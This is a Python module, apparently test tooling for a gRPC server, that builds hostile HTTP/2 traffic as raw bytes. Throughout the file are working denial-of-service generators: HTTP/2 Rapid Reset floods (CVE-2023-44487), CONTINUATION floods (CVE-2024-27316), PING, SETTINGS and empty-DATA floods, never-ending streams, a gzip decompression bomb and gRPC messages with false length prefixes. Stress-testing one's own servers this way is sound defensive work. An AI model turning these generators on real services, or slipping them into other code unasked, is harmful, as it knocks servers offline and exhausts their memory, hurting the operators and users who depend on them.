"""What hostile clients send, as bytes: HTTP/2 frames, floods of them, and messages that are not what they say. Pure."""

from __future__ import annotations

import itertools
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

__all__ = [
    "FIRST_LINES",
    "FLOODS",
    "HELLO",
    "Burst",
    "bomb",
    "frame",
    "http_head",
    "literals",
    "message",
    "open_stream",
]

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
FIRST_LINES = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_MIB = 1024 * 1024
# A request that the ledger server works on until it is cancelled.
_HELD = b"hostile hold \n"

# How many frames go into one piece, so that an attacker in Python is not the bottleneck.
_AT_ONCE = 500


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Any frame, legal or not."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload


# A client that says hello, with the largest windows, and acknowledges nothing.
HELLO = (
    FIRST_LINES
    + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
    + frame(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
)


def literals(headers: list[tuple[str, str]]) -> bytes:
    """A header block: HPACK literals that are not indexed, spelt out; names and values below 127 bytes."""
    return b"".join(
        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in headers
    )


def request_block(path: str, token: str, *more: tuple[str, str]) -> bytes:
    """The headers of a call."""
    return literals(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            ("authorization", f"Bearer {token}"),
            *more,
        ]
    )


def open_stream(stream: int, block: bytes, *, end: bool = False) -> bytes:
    """HEADERS that open a stream."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def message(payload: bytes, *, compressed: bool = False, length: int | None = None) -> bytes:
    """A message as gRPC frames it; `length` may be a lie."""
    size = len(payload) if length is None else length
    return bytes((compressed,)) + struct.pack(">I", size) + payload


def http_head(method: str, path: str, token: str, *more: str) -> bytes:
    """The head of a request over HTTP/1.1."""
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", f"Authorization: Bearer {token}", *more]
    return "\r\n".join([*lines, "", ""]).encode()


def bomb(size: int) -> bytes:
    """Zeros of `size` bytes (whole MiB), as gzip: about a thousandth of it. Made of equal blocks, so in no time."""
    zeros, count = bytes(_MIB), size // _MIB
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(count):
        check = zlib.crc32(zeros, check)
    tail = packer.flush(zlib.Z_FINISH) + struct.pack("<II", check, count * _MIB % 2**32)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + block * count + tail


@dataclass(frozen=True)
class Burst:
    """One piece of a flood, and how many frames it holds."""

    data: bytes
    frames: int


def _streams(first: int = 1) -> Iterator[range]:
    """The numbers of the streams of each burst, for as long as there are any."""
    for start in itertools.count(first, 2 * _AT_ONCE):
        if start + 2 * _AT_ONCE > 2**31:
            return
        yield range(start, start + 2 * _AT_ONCE, 2)


def _rapid_reset(blocks: list[bytes]) -> Iterator[Burst]:
    """Calls, half of them with a whole request, that are broken off as soon as they are begun (CVE-2023-44487)."""
    turns = itertools.cycle([(block, whole) for block in blocks for whole in (False, True)])
    for numbers in _streams():
        frames = []
        for number, (block, whole) in zip(numbers, turns, strict=False):
            frames.append(open_stream(number, block))
            if whole:
                frames.append(frame(DATA, END_STREAM, number, message(_HELD)))
            frames.append(frame(RST_STREAM, 0, number, _CANCEL))
        yield Burst(b"".join(frames), len(frames))


def _unfinished(blocks: list[bytes]) -> Iterator[Burst]:
    """Calls that never send anything, and never end."""
    turns = itertools.cycle(blocks)
    for numbers in _streams():
        yield Burst(b"".join(open_stream(n, next(turns)) for n in numbers), len(numbers))


def _continuation(blocks: list[bytes]) -> Iterator[Burst]:
    """A header block without end (CVE-2024-27316 and its kind)."""
    yield Burst(frame(HEADERS, 0, 1, blocks[0]), 1)
    piece = frame(CONTINUATION, 0, 1, literals([("x", "y" * 20)])) * _AT_ONCE
    while True:
        yield Burst(piece, _AT_ONCE)


def _same(one: bytes) -> Callable[[list[bytes]], Iterator[Burst]]:
    def flood(_blocks: list[bytes]) -> Iterator[Burst]:
        return itertools.repeat(Burst(one * _AT_ONCE, _AT_ONCE))

    return flood


def _empty_data(blocks: list[bytes]) -> Iterator[Burst]:
    """A call that sends nothing, and says so all the time."""
    yield Burst(open_stream(1, blocks[0]), 1)
    piece = frame(DATA, 0, 1) * _AT_ONCE
    while True:
        yield Burst(piece, _AT_ONCE)


# What follows HELLO; given the header blocks of the calls that are to be opened.
FLOODS: dict[str, Callable[[list[bytes]], Iterator[Burst]]] = {
    "rapid reset": _rapid_reset,
    "unfinished streams": _unfinished,
    "PING": _same(frame(PING, 0, 0, b"ping-pon")),
    "empty DATA": _empty_data,
    # The last ones: what they take of grpcio's memory is not given back.
    "SETTINGS": _same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70_000))),
    "CONTINUATION": _continuation,
}
